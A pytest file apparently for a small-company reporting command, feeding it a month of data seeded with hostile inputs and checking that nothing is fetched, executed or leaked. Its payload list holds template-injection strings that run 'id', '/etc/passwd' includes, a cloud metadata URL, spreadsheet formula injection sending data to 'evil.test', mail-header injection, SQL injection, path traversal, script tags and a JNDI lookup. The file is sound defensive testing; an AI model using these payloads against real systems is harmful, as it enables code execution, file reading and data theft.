"""Hostile text in every field, secrets in the configuration: nothing is fetched, opened, executed, forged or told.

One month of a small company is run and mailed by the real command, in a process whose every connection and opened
file is written down; then every output is looked through.
"""

from __future__ import annotations

import csv
import email
import email.policy
import io
import json
import os
import re
import stat
import subprocess
import sys
from dataclasses import dataclass
from itertools import cycle
from pathlib import Path

import pikepdf
import pypdfium2
import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from reports.workbook.read import read_sheets
from tests.flows.company import REVIEWED, Small, small_company
from tests.places import CHECKOUT

MARK = "TOPSECRETMARK"
PERSONAL = "PIICANARY"
SECRET = "CANARYPASSWORD7"

WATCH = """
import os, sys
log = os.open({log!r}, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600)
def watch(event, arguments):
    if event in ("socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "socket.sendto", "subprocess.Popen", "os.system"):
        os.write(log, (event + " " + repr(arguments[-1] if event == "socket.connect" else arguments[:2]) + "\\n").encode())
    elif event == "open" and "canary" in str(arguments[0]):
        os.write(log, ("open " + str(arguments[0]) + "\\n").encode())
sys.addaudithook(watch)
sys.argv = ["keping", *{words!r}]
from flows.cli import main
main()
"""


def payloads(secret: Path) -> list[str]:
    """What an attacker would put into a name, a cause, a channel."""
    return [
        f'</td><link rel=attachment href="file://{secret}">',
        f'<a rel=attachment href="file://{secret}">x</a>',
        f'<object data="file://{secret}"></object>',
        '<img src="http://169.254.169.254/latest/meta-data/">',
        '<img src="http://[::1]:9/x.png">',
        "<style>@import url(http://127.0.0.1:9/x.css)</style>",
        "{{7*7}}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{% include '/etc/passwd' %}",
        '=HYPERLINK("http://evil.test/?"&A1,"x")',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
        "\t=1+1",
        "Gold\r\nBcc: evil@x.test",
        "x\n2026-11-01 INFO sent tier=gold ok",
        "a\x1b[2J\x1b]0;owned\x07",
        "\u202egnp.exe",
        "W" * 20_000,
        "z" + "\u0301" * 1000,
        "👩‍👩‍👧‍👦" * 50,
        "\u200b" * 5000 + "y",
        "'; DROP TABLE customers;--",
        "../../../../pwn",
        "..\\..\\pwn",
        "a\x00b",
        "<script>alert(1)</script>",
        "[link](javascript:alert(1))",
        "&lt;b&gt; &amp; &#x41;",
        "%n%s%x",
        "${jndi:ldap://127.0.0.1/x}",
        "名字‏ملف",
    ]


@dataclass(frozen=True)
class Ran:
    """A hostile company after its run: its folder, what the command said, what it touched."""

    company: Small
    said: str
    touched: list[str]
    code: int

    @property
    def published(self) -> Path:
        return self.company.folder / "archive" / REVIEWED / "r0"

    @property
    def mails(self) -> list[Path]:
        return sorted((self.company.folder / "outbox" / REVIEWED).glob("*.eml"))


@pytest.fixture(scope="module")
def ran(tmp_path_factory: pytest.TempPathFactory) -> Ran:
    folder = tmp_path_factory.mktemp("hostile")
    secret = folder / "canary-secret.txt"
    secret.write_text(MARK, encoding="utf-8")
    company = small_company(folder / "company", locales='["en", "zh_CN"]')
    evil = cycle(payloads(secret))

    def poisoned(name: str, more: dict[str, str]) -> None:
        """Give a table these columns: `*` is a payload, another one in each row, `#` the row's number, `*#` both, like no other text."""
        head, *rows = company.rows(name)
        columns = [*head, *(column for column in more if column not in head)]
        filled = []
        for number, row in enumerate(rows):
            own = {
                column: (next(evil) if "*" in text else "") + text.strip("*").replace("#", f" {number}") for column, text in more.items()
            }
            cells = dict(zip(head, row, strict=True)) | own
            filled.append([cells[column] for column in columns])
        company.write(name, [columns, *filled])

    # A name that is another customer's region as well would rightly be taken for a leak.
    names = {"name": "*#"} | dict.fromkeys(["region", "industry", "source_channel", "account_manager", "preferred_channel"], "*")
    poisoned("customers", names | {"birth_date": "1977-07-07", "occupation": f"{PERSONAL}-#", "contact_style": PERSONAL})
    poisoned("orders", {"channel": "*", "site": "*", "salesperson": "*", "promo_code": "*"})
    poisoned("tickets", {"cause": "*", "component": "*", "channel": "*", "team": "*", "agent": "*", "priority": "*"})
    poisoned("surveys", {"comment": f"{PERSONAL} call 13800138000", "touchpoint": "*", "mode": "*", "dimension": "*"})
    rows = company.rows("orders")
    rows += [
        ["=cmd", "../../pwn-id", "2026-06-10 10:00:00", "12.00", "", "", *rows[1][6:]],
        ["<b>1</b>", "{{9*9}}", "2026-06-11 10:00:00", "9.00", "", "", *rows[1][6:]],
    ]
    company.write("orders", rows)
    company.write(
        "recipients",
        [
            ["email", "name", "locale", "tiers"],
            ["an@example.com", "Gold {{7*7}} <b>An</b>", "en", "*"],
            ["bo@example.com", "=1+1 Bo", "zh_CN", "*"],
        ],
    )
    text = company.config.read_text(encoding="utf-8").replace('name = "Small Company"', 'name = "Small {{7*7}} <i>& Company"')
    text += f'\n[sources.other]\nurl = "postgresql://u:{SECRET}@127.0.0.1:1/x?password={SECRET}"\n'
    company.config.write_text(text + '[delivery]\nsender = "reviews@example.com"\n', encoding="utf-8")
    log = folder / "touched.log"
    log.touch()
    words = ["run", "--month", REVIEWED, "--send", "-v", "--config", str(company.config)]
    done = subprocess.run(
        [sys.executable, "-c", WATCH.format(log=str(log), words=words)],
        capture_output=True, text=True, check=False, cwd=CHECKOUT, umask=0,
        env={**os.environ, "PYTHONPATH": str(CHECKOUT), "TMPDIR": str(folder), "PREFECT_API_URL": ""},
    )  # fmt: skip
    return Ran(company, done.stdout + done.stderr, log.read_text(encoding="utf-8").splitlines(), done.returncode)


def tables(ran: Ran) -> dict[str, str]:
    """Every CSV that readers get, beside the packs and inside them."""
    found = {path.name: path.read_text(encoding="utf-8") for path in ran.published.rglob("*.csv")}
    for path in ran.published.glob("*.pdf"):
        for name, contents in PdfReader(path).attachments.items():
            found |= {f"{path.name}/{name}": content.decode() for content in contents}
    return found


def text_of(path: Path) -> str:
    return " ".join(page.get_textpage().get_text_bounded() for page in pypdfium2.PdfDocument(path))


def test_the_month_is_published_and_mailed_as_any_other(ran: Ran) -> None:
    assert ran.code == 0, ran.said[-3000:]
    assert len(list(ran.published.glob("*.pdf"))) == 12
    assert ran.mails


def test_nothing_is_connected_to_opened_or_started(ran: Ran) -> None:
    started = [line for line in ran.touched if not line.startswith("subprocess.Popen")]
    assert started == []
    programs = {re.search(r"'([^']*)'", line).group(1) for line in ran.touched}  # type: ignore[union-attr]
    assert {Path(name).name for name in programs} <= {"git", "gcc", "cc", "ldconfig", "/sbin/ldconfig", "ld", "sh", "fc-list", "uname"}


def test_packs_carry_our_two_tables_and_no_action_script_or_foreign_link(ran: Ran) -> None:
    for path in ran.published.glob("*.pdf"):
        with pikepdf.open(path) as pdf:
            carried = set() if path.name.startswith("reference.") else {"customers.csv", "figures.csv"}
            assert carried <= set(pdf.attachments) and all(name.endswith(".csv") for name in pdf.attachments)
            data = path.read_bytes()
            assert MARK.encode() not in data
            for thing in pdf.objects:
                if isinstance(thing, pikepdf.Dictionary):
                    assert thing.get("/S") not in (pikepdf.Name.URI, pikepdf.Name.JavaScript, pikepdf.Name.Launch, pikepdf.Name.GoToR)


def test_markup_and_template_words_are_printed_as_they_are(ran: Ran) -> None:
    text = text_of(ran.published / "company.en.pdf")
    assert "Small {{7*7}} <i>& Company" in text
    assert "Small 49" not in text
    assert MARK not in text


def test_no_cell_of_a_table_is_a_formula(ran: Ran) -> None:
    live = re.compile(r"^[=+@\t\r-]")
    seen: set[str] = set()
    number = re.compile(r"^-?\d+(\.\d+)?(e-?\d+)?$", re.I)
    for name, text in tables(ran).items():
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        seen |= {cell for cell in cells if "HYPERLINK" in cell}
        assert [cell[:60] for cell in cells if live.match(cell) and not number.match(cell)] == [], name
    assert '\'=HYPERLINK("http://evil.test/?"&A1,"x")' in {cell.partition(" ")[0] for cell in seen}, "the formulas are there, as text"


def test_a_mail_has_our_headers_one_recipient_and_nothing_else(ran: Ran) -> None:
    allowed = {
        "from",
        "to",
        "subject",
        "date",
        "message-id",
        "mime-version",
        "content-type",
        "content-transfer-encoding",
        "content-language",
    }
    allowed |= {"auto-submitted", "precedence", "x-keping-delivery", "x-auto-response-suppress"}
    for path in ran.mails:
        message = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
        names = [name.lower() for name in message]
        assert set(names) <= allowed and len(names) == len(set(names)), names
        assert len(message["to"].addresses) == 1
        assert message["to"].addresses[0].addr_spec in ("an@example.com", "bo@example.com")
        assert "49" not in message["to"].addresses[0].display_name


def test_no_output_tells_a_secret_or_a_personal_field(ran: Ran) -> None:
    needles = (SECRET, PERSONAL, "13800138000", "1977-07-07")
    places = {str(path): path.read_bytes() for path in [*ran.published.rglob("*"), *ran.mails] if path.is_file()}
    places |= {name: text.encode() for name, text in tables(ran).items()} | {"console": ran.said.encode()}
    for path in ran.published.glob("*.pdf"):
        places[f"text of {path.name}"] = text_of(path).encode()
    books = list(ran.published.glob("*.xlsx"))
    assert len(books) == 10
    for path in books:
        places[f"cells of {path.name}"] = repr(list(read_sheets(path.read_bytes()))).encode()
        assert not any(cell.data_type == "f" for page in load_workbook(path) for row in page.iter_rows() for cell in row)
    assert [(name, needle) for name, data in places.items() for needle in needles if needle.encode() in data] == []
    assert SECRET.encode() not in (ran.company.folder / "keping.db").read_bytes()


def test_what_the_command_says_is_plain_lines(ran: Ran) -> None:
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", ran.said)
    assert not re.search(r"^2026-11-01 INFO sent", ran.said, re.M)


def test_all_files_are_their_owner_s_alone_and_below_the_company_s_folder(ran: Ran) -> None:
    for root in ("archive", "outbox"):
        for path in (ran.company.folder / root).rglob("*"):
            assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0, path
    assert stat.S_IMODE((ran.company.folder / "keping.db").stat().st_mode) & 0o077 == 0
    beside = {path.name for path in ran.company.folder.parent.iterdir()}
    assert not any("pwn" in name for name in beside)
    assert not any(path.name.startswith("keping") for path in ran.company.folder.parent.iterdir())


def test_machine_readable_output_stays_readable(ran: Ran) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "flows.cli", "status", "--json", "--config", str(ran.company.config)],
        capture_output=True, text=True, check=True, cwd=CHECKOUT,
    )  # fmt: skip
    assert json.loads(done.stdout)["company"] == "Small {{7*7}} <i>& Company"
